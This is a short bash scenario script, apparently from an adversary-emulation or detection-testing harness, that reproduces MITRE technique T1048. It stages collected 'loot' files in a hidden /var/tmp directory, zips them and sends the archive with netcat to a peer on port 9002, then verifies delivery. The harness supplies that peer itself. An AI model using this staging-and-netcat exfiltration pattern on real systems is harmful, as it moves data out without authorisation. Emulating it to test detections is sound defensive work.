#!/usr/bin/env bash
# Staging + exfiltration: `zip -r` into /var/tmp/.<hidden>/, then `nc PEER 9002 < archive`.
. "$(dirname "$0")/../lib.sh"
scn_begin exfil-zip-nc T1048
scn_require zip nc.openbsd
scn_sink_peer 9002
scn_loot
scn_tmpdir stage /var/tmp .scn-stage-
(cd "$SCN_LOOT" && zip -qr "$stage/b.zip" .)
scn_run_key nc.openbsd -N -w 5 "$SCN_PEER" 9002 <"$stage/b.zip"
scn_wait_size "$SCN_SINK" "$(stat -c %s "$stage/b.zip")" || scn_fail "the peer did not get the whole archive"
